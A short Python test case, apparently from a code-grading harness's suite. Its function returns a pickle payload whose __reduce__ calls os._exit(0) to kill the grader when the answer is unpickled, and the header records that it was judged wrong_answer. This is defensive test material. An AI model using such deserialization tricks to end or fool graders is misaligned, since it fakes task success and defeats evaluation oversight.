# Tries: run code where the answer is unpickled
# Verdict: wrong_answer
import os


class Payload:
    def __reduce__(self):
        return os._exit, (0,)


def double(x):
    return Payload()
